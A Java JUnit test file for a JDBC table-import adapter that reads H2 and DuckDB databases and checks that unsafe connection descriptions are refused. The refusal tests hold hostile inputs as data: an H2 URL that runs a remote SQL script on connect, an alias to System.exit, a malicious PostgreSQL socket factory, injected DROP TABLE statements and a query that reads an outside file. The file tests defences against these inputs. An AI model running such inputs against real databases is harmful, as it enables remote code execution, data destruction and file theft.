package lathe.engine.adapter.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.Locale;
import lathe.engine.data.BadCells;
import lathe.engine.data.ImportOptions;
import lathe.engine.data.Imported;
import lathe.engine.data.SourceTables;
import lathe.engine.data.TableImport;
import lathe.scoring.FieldType;
import lathe.scoring.Problem;
import lathe.scoring.ProblemException;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Database files and descriptions, without a server.
class JdbcImportTest {

    @TempDir
    private static Path folder;

    @BeforeAll
    static void fill() throws SQLException {
        for (String url : List.of("jdbc:h2:file:" + folder.resolve("shop"), "jdbc:duckdb:" + folder.resolve("shop.duckdb"))) {
            boolean h2 = url.startsWith("jdbc:h2");
            try (Connection connection = h2 ? DriverManager.getConnection(url, "sa", "") : DriverManager.getConnection(url);
                    Statement statement = connection.createStatement()) {
                statement.execute("CREATE TABLE orders (id INTEGER, price DOUBLE PRECISION, kind VARCHAR(20), bought DATE, big BIGINT)");
                statement.execute("INSERT INTO orders VALUES (1, 1.5, 'red', DATE '2024-03-04', 9007199254740993), "
                        + "(2, NULL, NULL, NULL, 1), (3, 3.5, 'blue', DATE '2024-03-05', 2)");
            }
        }
    }

    private static Path describe(String text) throws IOException {
        return Files.writeString(folder.resolve("d.jdbc.yaml"), text);
    }

    private static Problem refused(Path file) {
        return assertThrows(ProblemException.class, () -> new TableImport().read(file, ImportOptions.defaults())).problem();
    }

    @ParameterizedTest
    @ValueSource(strings = {"shop.mv.db", "shop.duckdb"})
    void databaseFilesAreReadLikeWorkbooks(String name) {
        Imported imported = new TableImport().read(folder.resolve(name), ImportOptions.defaults());

        assertEquals(3, imported.table().rows());
        assertEquals(List.of("id", "price", "kind", "bought", "big"), imported.table().schema().names().stream().map(each -> each.toLowerCase(Locale.ROOT)).toList());
        String price = imported.table().schema().names().get(1);
        assertEquals(3.5, imported.table().numbers(price).value(2));
        assertTrue(Double.isNaN(imported.table().numbers(price).value(1)));
        assertEquals("2024-03-04", imported.table().strings(imported.table().schema().names().get(3)).text(0));
        assertEquals(FieldType.CATEGORY, imported.table().schema().fields().get(4).type());
    }

    @ParameterizedTest
    @ValueSource(strings = {"shop.mv.db", "shop.duckdb"})
    void tablesOfADatabaseAreListedAsTheyAreChosen(String name) {
        Path file = folder.resolve(name);
        SourceTables tables = new TableImport().tables(file, ImportOptions.defaults());

        assertEquals(SourceTables.Kind.TABLES, tables.kind());
        assertEquals(1, tables.names().size());
        assertEquals(3, new TableImport().read(file, ImportOptions.defaults().withSheet(tables.names().getFirst())).table().rows());
    }

    @ParameterizedTest
    @ValueSource(strings = {"url: jdbc:h2:shop\ntable: orders", "url: jdbc:h2:file:./shop\nquery: SELECT * FROM orders ORDER BY id;",
        "url: jdbc:duckdb:shop.duckdb\ntable: main.ORDERS", "url: jdbc:duckdb:shop.duckdb\nquery: WITH a AS (SELECT * FROM orders) SELECT * FROM a"})
    void descriptionsNameATableOrAQuery(String text) throws IOException {
        Path file = describe(text);
        Imported imported = new TableImport().read(file, ImportOptions.defaults());

        assertEquals(3, imported.table().rows());
        assertEquals(imported.table().schema(), new TableImport().readAs(file, imported.table().schema(), BadCells.ERROR).schema());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "url: 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://example.org/x.sql'''", "url: jdbc:h2:mem:x", "url: jdbc:h2:zip:x.zip!/y",
        "url: jdbc:h2:shop;INIT=CREATE ALIAS X FOR 'java.lang.System.exit'", "url: 'jdbc:h2:shop;ACCESS_MODE_DATA=rw'",
        "url: jdbc:postgresql://h/d?socketFactory=org.example.Evil", "url: jdbc:postgresql://h/d?loggerFile=/tmp/x",
        "url: jdbc:postgresql://u:private@h/d", "url: jdbc:postgresql://h/d?password=private", "url: jdbc:duckdb:", "url: jdbc:sqlite:x",
        "url: jdbc:h2:shop\npassword: private", "url: jdbc:h2:shop\ntable: a\nquery: SELECT 1", "url: jdbc:h2:shop\nquery: DROP TABLE orders",
        "url: jdbc:h2:shop\nquery: SELECT 1; DROP TABLE orders",
        "url: jdbc:h2:shop\nquery: \"SELECT E'\\\\''; DROP TABLE x; SELECT ''\"", "url: jdbc:h2:shop\nquery: [a]", "url: jdbc:h2:shop\nother: a", "- a", "{",
        "url: jdbc:h2:shop\ntimeout_seconds: 0", "url: jdbc:h2:shop\npassword_variable: 'a b'"})
    void descriptionsThatDoMoreThanReadAreRefused(String text) throws IOException {
        Problem problem = refused(describe(text));

        assertEquals("database-description", problem.code(), problem.message());
        assertTrue(!problem.message().contains("private"), problem.message());
    }

    @Test
    void tablesThatAreNotThereAreToldWithThoseThatAre() throws IOException {
        Problem problem = refused(describe("url: jdbc:duckdb:shop.duckdb\ntable: nothing"));

        assertEquals("database-table", problem.code());
        assertTrue(problem.remedy().contains("orders"), problem.remedy());
        assertEquals("database-missing", refused(describe("url: jdbc:h2:nowhere\ntable: x")).code());
        assertEquals("database-unreachable", refused(describe("url: jdbc:duckdb:nowhere.duckdb\ntable: x")).code());
    }

    @Test
    void aDatabaseDoesNotReadOtherFiles() throws IOException {
        Path secret = Files.writeString(folder.resolve("secret.csv"), "a\n1\n");

        assertEquals("database-refused", refused(describe("url: jdbc:duckdb:shop.duckdb\nquery: SELECT * FROM read_csv('%s')".formatted(secret))).code());
    }

    @Test
    void whatIsNoDatabaseIsRefused() throws IOException {
        assertEquals("database-unreachable", refused(Files.writeString(folder.resolve("broken.duckdb"), "not a database")).code());
        assertEquals("database-unreachable", refused(Files.writeString(folder.resolve("broken.mv.db"), "not a database")).code());
    }
}
